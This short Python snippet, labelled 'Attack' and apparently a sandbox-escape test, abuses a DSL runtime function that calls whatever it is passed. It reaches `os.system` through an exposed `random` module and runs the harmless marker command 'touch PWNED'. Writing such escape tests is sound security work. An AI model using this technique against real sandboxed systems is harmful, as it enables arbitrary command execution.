# Attack: a runtime function that calls what it is given (`explicit_game` calls its class with
# the other arguments): give it `os.system`.
from dsl.runtime import engine as _rt
from dsl.runtime.engine import random as r

_rt.explicit_game(lambda players, seed, readings: r._os.system(players), "touch PWNED", 0, None, "seeded")
